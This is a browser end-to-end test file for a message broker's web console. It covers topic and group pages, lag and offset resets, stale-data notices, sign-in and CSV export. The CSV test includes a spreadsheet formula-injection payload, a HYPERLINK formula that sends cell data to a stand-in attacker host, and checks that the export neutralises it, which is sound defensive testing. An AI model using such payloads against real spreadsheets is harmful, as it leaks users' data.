/**
 * The web console at /ui/ in a real headless Chromium (Debian's `chromium`, driven by puppeteer-core)
 * against real brokers: the overview, a topic page showing a message just produced, the live tail
 * receiving a new message, a group page whose lag is log end minus committed and an offset reset that
 * moves it, and the sign-in flow on a broker with authentication on. The overview, the topics and
 * groups lists, a topic or group page whose poll fails (request interception) keeps what it shows and
 * says it is stale; the CSV export parses back
 * and has no cell a spreadsheet would run as a formula. On every page: no console
 * error, no uncaught exception, no failed request but those failed on purpose. Screenshots go to
 * .test-results/screenshots/.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'puppeteer-core';
import { SHOTS, launchChromium } from '../helpers/browser.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Consumer } from 'tributary-client/consumer.js';
import { expectRowsGiveBack, parseCsv } from '../helpers/csv.js';
import { BrokerProcess } from '../helpers/launcher.js';
import { tempDir, until } from '../helpers/util.js';
import { addUser } from './security/pki.js';


let browser: Browser;

beforeAll(async () => {
  browser = await launchChromium();
}, 60_000);

afterAll(async () => {
  await browser?.close();
});

/** A page that records every console error, uncaught exception, failed request and 4xx/5xx response. */
async function open(url: string, before?: (page: Page) => Promise<void>, context?: BrowserContext): Promise<{ page: Page; problems: string[]; done: (shot: string) => Promise<void> }> {
  const page = await (context ?? browser).newPage();
  await before?.(page);
  await page.setViewport({ width: 1280, height: 900 });
  const problems: string[] = [];
  let closing = false;
  page.on('console', (m) => {
    if (m.type() === 'error') problems.push(`console: ${m.text()} ${m.location().url ?? ''}`);
  });
  page.on('pageerror', (e) => problems.push(`exception: ${(e as Error).message}`));
  page.on('requestfailed', (r) => {
    if (!closing) problems.push(`failed: ${r.url()} ${r.failure()?.errorText}`);
  });
  page.on('response', (r) => {
    if (r.status() >= 400) problems.push(`${r.status()}: ${r.url()}`);
  });
  await page.goto(url, { waitUntil: 'domcontentloaded' });
  return {
    page,
    problems,
    done: async (shot: string) => {
      await page.screenshot({ path: path.join(SHOTS, `${shot}.png`), fullPage: true });
      closing = true;
      await page.close();
    },
  };
}

/** What the user sees of an element (innerText: rendered text, table cells separated by tabs). */
async function text(page: Page, selector: string): Promise<string> {
  // biome-ignore lint/performance/useDomNodeTextContent: the rendered text is what the test checks
  return page.$eval(selector, (el) => (el as unknown as { innerText: string }).innerText);
}

/**
 * Makes the page's requests that `hit` matches fail while `on` (request interception): refused as by
 * a broker that is down, answered 502 with an HTML page as by a proxy in front of one, or never
 * answered as by a broker that is stopped. `how` may be changed between requests.
 */
async function breakRequests(page: Page, hit: (method: string, url: URL) => boolean, how: 'refuse' | 'bad-gateway' | 'hang') {
  const state = { on: true, how, failed: 0 };
  await page.setRequestInterception(true);
  page.on('request', (r) => {
    if (r.isInterceptResolutionHandled()) return;
    if (!state.on || !hit(r.method(), new URL(r.url()))) return void r.continue();
    state.failed++;
    if (state.how === 'refuse') void r.abort('connectionrefused');
    else if (state.how === 'bad-gateway') void r.respond({ status: 502, contentType: 'text/html', body: '<html><body><h1>502 Bad Gateway</h1></body></html>' });
  });
  return state;
}

/** What `open` recorded, less what a failure made on purpose caused (the requests to `path`). */
const unexpected = (problems: string[], path: string) => problems.filter((p) => !p.includes(path));

// biome-ignore lint/suspicious/noExplicitAny: JSON answers of many shapes, asserted field by field
async function api(port: number, method: string, p: string, body?: unknown): Promise<any> {
  const res = await fetch(`http://127.0.0.1:${port}/api/v1${p}`, {
    method,
    headers: body === undefined ? {} : { 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  return res.status === 204 ? undefined : res.json();
}

describe('web console', () => {
  let broker: BrokerProcess;
  let base: string;

  beforeAll(async () => {
    broker = await BrokerProcess.start({ args: ['--offsets-topic-partitions', '2'] });
    base = `http://127.0.0.1:${broker.healthPort}/ui/`;
    await api(broker.healthPort, 'POST', '/topics', { name: 'web-topic', partitions: 2 });
  });

  afterAll(async () => {
    await broker?.dispose();
  });

  it('overview: brokers, partition health and topics', async () => {
    const { page, problems, done } = await open(base);
    try {
      await page.waitForSelector('[data-test=brokers]', { timeout: 15_000 });
      expect(await text(page, '[data-test=brokers]')).toMatch(/^1\s+broker \(standalone\)/);
      expect(await text(page, '[data-test=under-replicated]')).toMatch(/^0\s/);
      expect(await text(page, '[data-test=leaderless]')).toMatch(/^0\s/);
      await page.click('a[href="#/topics"]');
      await page.waitForSelector('[data-test=topics] a[href="#/topics/web-topic"]', { timeout: 10_000 });
    } finally {
      await done('overview');
    }
    expect(problems).toEqual([]);
  });

  it('an overview whose poll fails keeps its figures and says they are stale; an error shows only before the first answer', async () => {
    const poll = '/api/v1/cluster';
    let broken!: Awaited<ReturnType<typeof breakRequests>>;
    const { page, problems, done } = await open(base, async (p) => {
      broken = await breakRequests(p, (method, url) => method === 'GET' && url.pathname === poll, 'bad-gateway');
    });
    try {
      // Nothing read yet: the error itself.
      await page.waitForSelector('main .error', { timeout: 15_000 });
      expect(await text(page, 'main .error')).toMatch(/^502 /);
      expect(await page.$('[data-test=stale]')).toBeNull();
      broken.on = false;
      await page.waitForSelector('[data-test=brokers]', { timeout: 15_000 });
      expect(await page.$('main .error')).toBeNull();
      // Read once: the figures stay, under the stale notice, until a poll succeeds.
      broken.how = 'refuse';
      broken.on = true;
      await page.waitForSelector('[data-test=stale]', { timeout: 15_000 });
      expect(await text(page, '[data-test=stale]')).toMatch(/^stale: could not refresh: the broker did not answer/);
      expect(await text(page, '[data-test=brokers]')).toMatch(/^1\s+broker \(standalone\)/);
      expect(await page.$('main .error')).toBeNull();
      broken.on = false;
      await page.waitForSelector('[data-test=stale]', { hidden: true, timeout: 15_000 });
      expect(await text(page, '[data-test=brokers]')).toMatch(/^1\s+broker \(standalone\)/);
    } finally {
      await done('overview-stale');
    }
    expect(unexpected(problems, poll)).toEqual([]);
  });

  it('the topics and groups lists keep their rows when a poll fails and say they are stale; an error shows only before the first answer', async () => {
    await api(broker.healthPort, 'POST', '/topics', { name: 'web-listed', partitions: 1 });
    await api(broker.healthPort, 'POST', '/topics/web-listed/messages', { value: 'one' });
    const consumer = new Consumer({ brokers: [broker.address], groupId: 'web-listed-group', topic: 'web-listed', autoOffsetReset: 'earliest', heartbeatIntervalMs: 100, maxWaitMs: 100, autoCommitIntervalMs: 50 });
    const run = consumer.run({ eachMessage: async () => {} });
    await until(async () => (await api(broker.healthPort, 'GET', '/groups/web-listed-group')).offsets?.[0]?.committed === 1, 15_000, 'the group to commit');
    await consumer.close();
    await run.catch(() => {});
    for (const list of [
      { route: 'topics', row: '[data-test=topics] a[href="#/topics/web-listed"]' },
      { route: 'groups', row: '[data-test=groups] a[href="#/groups/web-listed-group"]' },
    ]) {
      const poll = `/api/v1/${list.route}`;
      let broken!: Awaited<ReturnType<typeof breakRequests>>;
      const { page, problems, done } = await open(`${base}#/${list.route}`, async (p) => {
        broken = await breakRequests(p, (method, url) => method === 'GET' && url.pathname === poll, 'bad-gateway');
      });
      try {
        // Nothing read yet: the error itself.
        await page.waitForSelector('main .error', { timeout: 15_000 });
        expect(await text(page, 'main .error')).toMatch(/^502 /);
        expect(await page.$('[data-test=stale]')).toBeNull();
        broken.on = false;
        await page.waitForSelector(list.row, { timeout: 15_000 });
        expect(await page.$('main .error')).toBeNull();
        // Read once: the rows stay, under the stale notice, until a poll succeeds.
        broken.how = 'refuse';
        broken.on = true;
        await page.waitForSelector('[data-test=stale]', { timeout: 15_000 });
        expect(await text(page, '[data-test=stale]')).toMatch(/^stale: could not refresh: the broker did not answer/);
        expect(await page.$(list.row)).not.toBeNull();
        expect(await page.$('main .error')).toBeNull();
        broken.on = false;
        await page.waitForSelector('[data-test=stale]', { hidden: true, timeout: 15_000 });
        expect(await page.$(list.row)).not.toBeNull();
      } finally {
        await done(`${list.route}-stale`);
      }
      expect(unexpected(problems, poll)).toEqual([]);
    }
  });

  it('a route with a malformed escape shows its page, not a blank one', async () => {
    const { page, problems, done } = await open(`${base}#/groups/%zz`);
    try {
      await until(async () => (await page.$('main')) !== null && (await text(page, 'main')).includes('%zz'), 10_000, 'the group page of %zz');
    } finally {
      await done('malformed-route');
    }
    expect(problems.filter((p) => p.startsWith('exception'))).toEqual([]);
  });

  it('a topic page shows a message that was just produced, in the JSON view', async () => {
    const sent = await api(broker.healthPort, 'POST', '/topics/web-topic/messages', { key: 'o-42', value: '{"order":42,"item":"tea"}', partition: 0 });
    const { page, problems, done } = await open(`${base}#/topics/web-topic`);
    try {
      await page.waitForSelector('[data-test=messages]', { timeout: 15_000 });
      await until(async () => (await text(page, '[data-test=messages]')).includes('"order": 42'), 10_000, 'the produced message');
      const row = await text(page, `[data-test=messages] tr[data-offset="${sent.offset}"]`);
      expect(row).toContain('o-42');
      expect(row).toContain('"item": "tea"');
      expect(await text(page, '[data-test=partitions]')).toMatch(/^partition\tleader/);
      // The produce form writes one too.
      await page.type('[data-test=produce] input[name=value]', 'from-the-form');
      await page.click('[data-test=produce] button');
      await until(async () => (await text(page, '[data-test=produce-result]')).startsWith('written to partition'), 10_000, 'the produce result');
      // Search finds it.
      await page.type('input[name=search-value]', 'from-the-form');
      await page.keyboard.press('Enter');
      await until(async () => (await text(page, '[data-test=search-info]')).startsWith('1 found'), 10_000, 'the search result');
    } finally {
      await done('topic');
    }
    expect(problems).toEqual([]);
  });

  it('a topic page whose poll fails keeps what was typed and loaded, says it is stale, and clears that once a poll succeeds', async () => {
    await api(broker.healthPort, 'POST', '/topics', { name: 'web-stale', partitions: 1 });
    const sent = await api(broker.healthPort, 'POST', '/topics/web-stale/messages', { key: 'k-stale', value: 'loaded-before' });
    const { page, problems, done } = await open(`${base}#/topics/web-stale`);
    const poll = '/api/v1/topics/web-stale';
    try {
      await page.waitForSelector(`[data-test=messages] tr[data-offset="${sent.offset}"]`, { timeout: 15_000 });
      await page.type('[data-test=produce] input[name=value]', 'typed-not-sent');
      const broken = await breakRequests(page, (method, url) => method === 'GET' && url.pathname === poll, 'refuse');
      await page.waitForSelector('[data-test=stale]', { timeout: 15_000 });
      expect(broken.failed).toBeGreaterThan(0);
      expect(await text(page, '[data-test=stale]')).toMatch(/^stale: could not refresh: the broker did not answer/);
      expect(await page.$eval('[data-test=produce] input[name=value]', (i) => (i as unknown as { value: string }).value)).toBe('typed-not-sent');
      expect(await text(page, `[data-test=messages] tr[data-offset="${sent.offset}"]`)).toContain('loaded-before');
      expect(await text(page, '[data-test=partitions]')).toMatch(/^partition\tleader/);
      broken.on = false;
      await page.waitForSelector('[data-test=stale]', { hidden: true, timeout: 15_000 });
      expect(await page.$eval('[data-test=produce] input[name=value]', (i) => (i as unknown as { value: string }).value)).toBe('typed-not-sent');
    } finally {
      await done('topic-stale');
    }
    expect(unexpected(problems, poll)).toEqual([]);
  });

  it('the CSV export: cells a spreadsheet would run as formulas start with a quote, each value says its encoding, and it parses back', async () => {
    await api(broker.healthPort, 'POST', '/topics', { name: 'web-csv', partitions: 1 });
    const sent = [
      { key: '=1+2', value: '=HYPERLINK("http://attacker.example/?x="&A1,"open")' },
      { key: '@me', value: '+41 22', headers: { trace: '-1', plain: 'text' } },
      { value: '-2' },
      { value: '\tTAB' },
      { value: '\rCR' },
      { value: "'quoted already" },
      { value: 'line one, "two"\nline three' },
      // Bytes that are not UTF-8 (fb ef be): base64 "++++", which also starts with a formula character.
      { value: Buffer.from([0xfb, 0xef, 0xbe]).toString('base64'), encoding: 'base64' },
    ];
    for (const m of sent) await api(broker.healthPort, 'POST', '/topics/web-csv/messages', { ...m, partition: 0 });
    const stored = (await api(broker.healthPort, 'GET', '/topics/web-csv/messages?partition=0&offset=0')).messages;
    expect(stored.map((m: { value: string }) => m.value).at(-1)).toBe('++++');
    const dir = await tempDir('tributary-console-csv-');
    const context = await browser.createBrowserContext({ downloadBehavior: { policy: 'allow', downloadPath: dir } });
    const { page, problems, done } = await open(`${base}#/topics/web-csv`, undefined, context);
    try {
      await page.waitForSelector(`[data-test=messages] tr[data-offset="${stored.length - 1}"]`, { timeout: 15_000 });
      const [button] = await page.$$('xpath/.//button[text()="Export CSV"]');
      await button!.click();
      const file = path.join(dir, 'web-csv.csv');
      await until(() => fs.existsSync(file), 10_000, 'the downloaded CSV');
      const rows = parseCsv(fs.readFileSync(file, 'utf8'));
      expect(rows[0]).toEqual(['partition', 'offset', 'timestamp', 'key', 'keyEncoding', 'value', 'valueEncoding', 'headers']);
      expect(rows.length).toBe(stored.length + 1);
      // No cell starts with a character a spreadsheet reads as a formula.
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // One quote added to every cell that starts with one: removing it gives each message back.
      expectRowsGiveBack(rows.slice(1), stored);
      expect(rows.slice(1).map((r) => r[6])).toEqual([...Array(sent.length - 1).fill('utf8'), 'base64']);
      expect(rows[1]![3]).toBe("'=1+2");
      expect(rows[6]![5]).toBe("''quoted already");
    } finally {
      await done('csv-export');
      await context.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
    expect(problems).toEqual([]);
  });

  it('the live tail receives a message produced after it opened', async () => {
    const { page, problems, done } = await open(`${base}#/topics/web-topic/tail`);
    try {
      await until(
        async () => (await page.$('[data-test=tail-state]')) !== null && (await text(page, '[data-test=tail-state]')) === 'live',
        15_000,
        'the tail to be live',
      );
      await api(broker.healthPort, 'POST', '/topics/web-topic/messages', { value: 'tail-me', partition: 1 });
      await page.waitForSelector('[data-test=messages]', { timeout: 10_000 });
      await until(async () => (await text(page, '[data-test=messages]')).includes('tail-me'), 10_000, 'the new message in the tail');
      // A value with U+2028 (a line end to a JavaScript regex) ended the tail: the next one never showed.
      await api(broker.healthPort, 'POST', '/topics/web-topic/messages', { value: 'line\u2028sep', partition: 1 });
      await api(broker.healthPort, 'POST', '/topics/web-topic/messages', { value: 'after-it', partition: 1 });
      await until(async () => (await text(page, '[data-test=messages]')).includes('after-it'), 10_000, 'the message after it in the tail');
    } finally {
      await done('tail');
    }
    expect(problems).toEqual([]);
  });

  it('a group page: lag = log end - committed per partition; an offset reset (preview, then apply) moves it; failed polls keep the figures, marked stale', async () => {
    await api(broker.healthPort, 'POST', '/topics', { name: 'web-work', partitions: 2 });
    for (let i = 0; i < 8; i++) await api(broker.healthPort, 'POST', '/topics/web-work/messages', { value: `w${i}`, partition: i % 2 });
    const consumer = new Consumer({
      brokers: [broker.address],
      groupId: 'web-group',
      topic: 'web-work',
      autoOffsetReset: 'earliest',
      sessionTimeoutMs: 3000,
      heartbeatIntervalMs: 100,
      maxWaitMs: 100,
      autoCommitIntervalMs: 50,
    });
    let read = 0;
    const run = consumer.run({ eachMessage: async () => void read++ });
    await until(async () => (await api(broker.healthPort, 'GET', '/groups/web-group')).totalLag === 0 && read === 8, 15_000, 'the group to commit everything');
    await consumer.close();
    await run.catch(() => {});
    // Three more on partition 0: a lag of 3 there.
    for (let i = 0; i < 3; i++) await api(broker.healthPort, 'POST', '/topics/web-work/messages', { value: `late${i}`, partition: 0 });

    const { page, problems, done } = await open(`${base}#/groups/web-group`);
    try {
      const cell = async (p: number, c: string) => Number(await text(page, `[data-test=offsets] tr[data-partition="${p}"] td.${c}`));
      await page.waitForSelector('[data-test=offsets] tr[data-partition="0"]', { timeout: 15_000 });
      await until(async () => (await cell(0, 'lag')) === 3, 10_000, 'the lag of partition 0');
      for (const p of [0, 1]) expect(await cell(p, 'lag')).toBe((await cell(p, 'log-end')) - (await cell(p, 'committed')));
      const apiView = await api(broker.healthPort, 'GET', '/groups/web-group');
      expect(apiView.offsets.map((o: { lag: number }) => o.lag)).toEqual([await cell(0, 'lag'), await cell(1, 'lag')]);
      expect(await text(page, '[data-test=timeline]')).toContain('join');
      expect(await page.$('[data-test=lag-chart] canvas')).not.toBeNull();

      await page.select('select[name=partition]', '0');
      await page.select('select[name=to]', 'offset');
      await page.waitForSelector('input[name=reset-value]');
      await page.type('input[name=reset-value]', '1');
      await page.click('[data-test=preview]');
      await page.waitForSelector('[data-test=reset-preview]', { timeout: 10_000 });
      const logEnd = await cell(0, 'log-end');
      expect(await text(page, '[data-test=reset-preview] tbody')).toBe(`0\t1\t${logEnd - 1}`);
      expect(await text(page, '[data-test=reset-preview] caption')).toContain('preview');
      expect((await api(broker.healthPort, 'GET', '/groups/web-group')).offsets[0].committed).toBe(4);
      // A changed form takes the preview away: Apply cannot send something nobody previewed (all partitions).
      await page.select('select[name=partition]', '');
      await page.waitForSelector('[data-test=reset-preview]', { hidden: true, timeout: 10_000 });
      expect(await page.$eval('[data-test=apply]', (b) => (b as unknown as { disabled: boolean }).disabled)).toBe(true);
      await page.select('select[name=partition]', '0');
      expect(await page.$eval('[data-test=apply]', (b) => (b as unknown as { disabled: boolean }).disabled)).toBe(true);
      await page.click('[data-test=preview]');
      await page.waitForSelector('[data-test=reset-preview]', { timeout: 10_000 });
      await page.click('[data-test=apply]');
      await until(async () => (await cell(0, 'committed')) === 1 && (await cell(0, 'lag')) === logEnd - 1, 10_000, 'the reset to show');
      expect((await api(broker.healthPort, 'GET', '/groups/web-group')).offsets[0]).toMatchObject({ committed: 1, lag: logEnd - 1 });
      expect((await api(broker.healthPort, 'GET', '/groups/web-group')).offsets[1].committed).toBe(4);

      // Polls that fail (a proxy's 502, then no answer at all) keep the last figures, marked as stale.
      const poll = '/api/v1/groups/web-group';
      const broken = await breakRequests(page, (method, url) => method === 'GET' && url.pathname === poll, 'bad-gateway');
      await page.waitForSelector('[data-test=stale]', { timeout: 10_000 });
      expect(await text(page, '[data-test=stale]')).toMatch(/^stale: could not refresh: 502 /);
      expect(await cell(0, 'lag')).toBe(logEnd - 1);
      broken.on = false;
      await page.waitForSelector('[data-test=stale]', { hidden: true, timeout: 10_000 });
      broken.how = 'hang';
      broken.on = true;
      await until(async () => (await page.$('[data-test=stale]')) !== null && (await text(page, '[data-test=stale]')).includes('no answer within 10 s'), 20_000, 'the stale notice of an unanswered poll');
      expect(await cell(0, 'lag')).toBe(logEnd - 1);
      broken.on = false;
      await page.waitForSelector('[data-test=stale]', { hidden: true, timeout: 10_000 });
      expect(await cell(0, 'lag')).toBe(logEnd - 1);
    } finally {
      await done('group');
    }
    expect(unexpected(problems, '/api/v1/groups/web-group')).toEqual([]);
  });
});

describe('web console with authentication on', () => {
  let dir: string;
  let broker: BrokerProcess;
  let token: string;

  beforeAll(async () => {
    dir = await tempDir('tributary-console-auth-');
    const config = path.join(dir, 'broker.yaml');
    fs.writeFileSync(config, 'authentication: true\n');
    token = addUser(config, 'operator', ['admin']);
    broker = await BrokerProcess.start({ args: ['--config', config, '--offsets-topic-partitions', '2'] });
  });

  afterAll(async () => {
    await broker?.dispose();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it('asks to sign in, refuses a wrong token, then shows the overview; the token is in no URL', async () => {
    const { page, problems, done } = await open(`http://127.0.0.1:${broker.healthPort}/ui/`);
    const urls: string[] = [];
    page.on('request', (r) => urls.push(r.url()));
    try {
      await page.waitForSelector('[data-test=signin]', { timeout: 15_000 });
      await page.type('input[name=principal]', 'operator');
      await page.type('input[name=token]', 'not-the-token');
      await page.click('[data-test=signin] button');
      await page.waitForSelector('[data-test=signin-refused]', { timeout: 10_000 });
      await page.type('input[name=token]', token);
      await page.click('[data-test=signin] button');
      await page.waitForSelector('[data-test=brokers]', { timeout: 15_000 });
      expect(await text(page, 'header .user')).toContain('operator');
    } finally {
      await done('signin');
    }
    expect(problems).toEqual([]);
    for (const u of urls) expect(u).not.toContain(token);
    expect(broker.stderr).not.toContain(token);
  });

  it('says so when the session cannot be asked for (a 502, then a network error at sign-in), and signs in once it can', async () => {
    let broken = { on: false, how: 'bad-gateway' as 'refuse' | 'bad-gateway' | 'hang', failed: 0 };
    const session = '/api/v1/session';
    const { page, problems, done } = await open(`http://127.0.0.1:${broker.healthPort}/ui/`, async (p) => {
      broken = await breakRequests(p, (method, url) => method === 'GET' && url.pathname === session, 'bad-gateway');
    });
    try {
      await page.waitForSelector('[data-test=session-error]', { timeout: 15_000 });
      expect(await text(page, '[data-test=session-error] .error')).toMatch(/^could not reach the console's API: 502 /);
      broken.on = false;
      await page.click('[data-test=session-error] button');
      await page.waitForSelector('[data-test=signin]', { timeout: 10_000 });
      expect(await page.$('[data-test=session-error]')).toBeNull();
      await page.type('input[name=principal]', 'operator');
      await page.type('input[name=token]', token);
      broken.how = 'refuse';
      broken.on = true;
      await page.click('[data-test=signin] button');
      await page.waitForSelector('[data-test=signin-failed]', { timeout: 10_000 });
      expect(await text(page, '[data-test=signin-failed]')).toMatch(/^could not sign in: the broker did not answer/);
      expect(await page.$('[data-test=signin-refused]')).toBeNull();
      // Tried again as filled in, now answered.
      broken.on = false;
      await page.click('[data-test=signin] button');
      await page.waitForSelector('[data-test=brokers]', { timeout: 15_000 });
      expect(await text(page, 'header .user')).toContain('operator');
    } finally {
      await done('signin-unreachable');
    }
    expect(broken.failed).toBe(2);
    expect(unexpected(problems, session)).toEqual([]);
  });
});
